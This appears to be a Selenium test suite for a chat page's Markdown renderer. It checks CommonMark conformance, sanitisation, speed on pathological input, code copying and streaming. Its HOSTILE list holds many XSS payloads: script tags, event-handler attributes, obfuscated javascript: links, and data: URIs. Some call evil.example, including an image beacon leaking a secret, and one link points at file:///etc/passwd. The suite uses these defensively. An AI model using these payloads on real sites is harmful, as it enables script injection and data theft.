"""What a model writes, on the page: Markdown as CommonMark has it, and nothing that acts."""

import re

from chat_page import wait
from fake_chat_server import complete
from markdown_it import MarkdownIt
from selenium.webdriver.common.keys import Keys

DOCUMENT = """\
# One `code`
Two lines
of *emphasis*, **strong**, ***both***, ~~gone~~ and 2 * 3 * 4, snake_case_word.

## Links
[A](https://a.example/?x=1&y=2 "title"), <https://b.example/>, [C][c], mail <mailto:d@e.example>.

[c]: https://c.example/

- one
- two
  - deeper
    1. and
    2. deeper
- three

3. loose

   paragraph
4. list

> a quote
> of two lines
>
> - with a list

```python
def f(x):
    return x < 1 and "<b>"
```

    indented <i>code</i>

---

Hard\x20\x20
break, and a backslash \\* star. Entities: &lt;b&gt; &amp; &quot; &copy; &#8364; &#x20AC; &nosuch; A&B.

| left | right | center |
|:-----|------:|:------:|
| `a|b` | **2** | 3 |
| 4 |
"""
# The HTML of what the page shows, without what is ours: the head of code, classes, the box around a table.
PLAIN_HTML = """
const m = await import('/js/markdown.js');
const box = document.createElement('div');
m.showMarkdown(box, args[0]);
for (const each of box.querySelectorAll('.code-head')) each.remove();
for (const each of box.querySelectorAll('.code, .table')) each.replaceWith(...each.childNodes);
for (const each of box.querySelectorAll('*'))
  for (const { name } of [...each.attributes])
    if (!['href', 'start'].includes(name)) each.removeAttribute(name);
return box.innerHTML;
"""
TAGS = "DIV P H2 H3 H4 H5 H6 PRE CODE BLOCKQUOTE UL OL LI TABLE THEAD TBODY TR TH TD HR BR STRONG EM DEL A"
ALLOWED = {*TAGS.split(), "SPAN", "BUTTON", "SVG", "USE"}
# Every element that stands for a text, and every attribute of it.
PARTS = """
const found = [...arguments[0].querySelectorAll('*')];
return [found.map((each) => each.tagName.toUpperCase()),
        found.flatMap((each) => [...each.attributes].map(({ name, value }) => [name, value]))];
"""
HOSTILE = [
    "<script>window.hacked = 1</script>",
    "<img src=x onerror='window.hacked=1'>",
    "<svg onload=window.hacked=1><svg/onload=window.hacked=1//>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "<details open ontoggle=window.hacked=1>x</details>",
    "<style>* { display: none }</style><link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example><input name=q autofocus onfocus=window.hacked=1></form>",
    "<base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<a href='javascript:window.hacked=1'>a</a>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.hacked=1>",
    "[a](javascript:window.hacked=1)",
    "[a](JaVaScRiPt:window.hacked=1)",
    "[a](java\tscript:window.hacked=1)",
    "[a](<java\nscript:window.hacked=1>)",
    "[a](&#106;avascript:window.hacked=1)",
    "[a](&#x6A;&#x61;vascript&colon;window.hacked=1)",
    "[a](\x01javascript:window.hacked=1)",
    "[a](data:text/html,<script>opener.hacked=1</script>)",
    "[a](vbscript:msgbox)",
    "[a](blob:http://127.0.0.1/x)",
    "[a](file:///etc/passwd)",
    "[a](//evil.example)",
    '[a](https://good.example" onclick="window.hacked=1)',
    "<javascript:window.hacked=1>",
    "[a][r]\n\n[r]: javascript:window.hacked=1",
    "![x](https://evil.example/pixel.png?secret)",
    "![x](data:image/svg+xml;base64,PHN2Zz48c2NyaXB0Lz48L3N2Zz4=)",
    '![x" onerror="window.hacked=1](x.png)',
    '```"><script>window.hacked=1</script>\ncode\n```',
    "```js onload=window.hacked=1\n</code></pre><script>window.hacked=1</script>\n```",
    "| <script>window.hacked=1</script> |\n|-|\n| <img src=x onerror=window.hacked=1> |",
    "- [x] <script>window.hacked=1</script>",
    "&lt;script&gt;window.hacked=1&lt;/script&gt;",
    "`<script>window.hacked=1</script>`",
    "<pre><code>&lt;b&gt;</code></pre>",
    "\u202e\u2066<b>bidi</b>\ufeff\x00\x07",
]


# The reference's way to write what a browser writes in another way.
SAME = {"<s>": "<del>", "</s>": "</del>", "<br />\n": "<br>", "<hr />": "<hr>", "&quot;": '"'}
SAME["\n</code>"] = "</code>"
BLOCK_TAG = r"\s*(</?(?:p|h\d|[uo]l|li|blockquote|pre|table|thead|tbody|tr|t[hd]|hr)\b[^>]*>)\s*"


def split(html: str) -> list[str]:
    """HTML in tags of blocks and what is between them; a space at a line's end does not count."""
    return [re.sub(r" *\n *", "\n", part) for part in re.split(BLOCK_TAG, html) if part]


def lower_headings(html: str) -> str:
    return re.sub(r"(</?h)([1-5])>", lambda found: f"{found[1]}{int(found[2]) + 1}>", html)


def test_markdown_is_what_commonmark_says(page):
    """Beside markdown-it-py, which passes CommonMark's own tests."""
    reference = MarkdownIt("commonmark", {"html": False}).enable(["table", "strikethrough"])
    html = re.sub(r' (style|title|class)="[^"]*"', "", lower_headings(reference.render(DOCUMENT)))
    expected = re.sub("|".join(map(re.escape, SAME)), lambda each: SAME[each[0]], html)
    found = page.run_module(PLAIN_HTML, DOCUMENT)
    assert split(found) == split(expected)


def test_hostile_markdown_becomes_text(page):
    """In an answer, its reasoning, a message: no element but those of Markdown, no attribute that acts."""
    text = "\n\n".join(HOSTILE)
    page.server.script.append(complete(text, reasoning_content=text))
    page.run("document.getElementById('prompt').value = arguments[0]", text)  # a key has no such characters
    page.type(Keys.ENTER)
    page.wait_for_end()
    wait(lambda: len(page.messages) == 2, "the answer")
    for selector in (".answer > .text", ".thought > .text", ".user > .text"):
        tags, attributes = page.run(PARTS, page.find(selector))
        assert set(tags) <= ALLOWED, set(tags) - ALLOWED
        check_attributes(attributes)
    page.reload()
    wait(lambda: len(page.messages) == 2, "the answer")
    assert page.run("return window.hacked") is None
    assert not [path for path in page.server.paths if "/x" in path], "an image was asked for"


def check_attributes(attributes):
    names = {name for name, _ in attributes}
    ours = {"class", "href", "title", "target", "rel", "type", "aria-label", "aria-hidden", "start", "dir"}
    assert names <= ours, names - ours
    addresses = {value for name, value in attributes if name == "href"}
    assert all(re.match(r"https?://|mailto:|#icon-", value) for value in addresses), addresses
    assert "https://evil.example/pixel.png?secret" in addresses or not addresses, "an image is a link"


SLOW = {
    "quotes": ">" * 20000 + " x",
    "lists": "- " * 5000 + "x",
    "brackets": "[" * 50000,
    "stars": "*a " * 20000,
    "ticks": "`" * 30000,
    "columns": "|a" * 5000 + "\n" + "|-" * 5000,
    "angles": "<" * 50000,
}
TIMES = """
const m = await import('/js/markdown.js');
return args[0].map((text) => {
  const box = document.createElement('div');
  const begun = performance.now();
  m.showMarkdown(box, text);
  return [(performance.now() - begun) / 1000, box.textContent.length];
});
"""


def test_markdown_made_to_be_slow(page):
    measured = dict(zip(SLOW, page.run_module(TIMES, list(SLOW.values())), strict=True))
    assert all(seconds < 3 and length > 0 for seconds, length in measured.values()), measured


def test_code_is_copied(page):
    page.driver.execute_cdp_cmd(
        "Browser.grantPermissions", {"permissions": ["clipboardReadWrite", "clipboardSanitizedWrite"]}
    )
    page.ask("Code", complete("Here:\n\n```python\nif a < b:\n    pass\n```\n"))
    page.click("[aria-label='Copy the code']")
    wait(lambda: page.find("#status").get_attribute("textContent") == "Copied", "it is copied")
    page.type(Keys.CONTROL + "v")
    assert page.find("#prompt").get_attribute("value") == "if a < b:\n    pass"


def test_what_is_shown_already_stays_while_more_comes(page):
    """A selection and the focus of a button outlive the next piece."""
    answer = page.server.next()
    page.send("Code")
    answer.write("First.\n\n```\none\n")
    button = wait(lambda: page.find_all("[aria-label='Copy the code']"), "the code")[0]
    page.run("arguments[0].focus(); window.first = document.querySelector('.answer p')", button)
    answer.write("two\n")
    wait(lambda: "two" in page.texts[-1], "the next line")
    assert page.run("return document.activeElement === arguments[0]", button)
    answer.write("```\n\nThen [a][1].\n")
    wait(lambda: "Then" in page.texts[-1], "the next paragraph")
    assert page.run("return window.first.isConnected")
    answer.write("\n[1]: https://a.example/\n")
    answer.finish()
    page.wait_for_end()
    assert page.find(".answer .text a").get_attribute("href") == "https://a.example/"
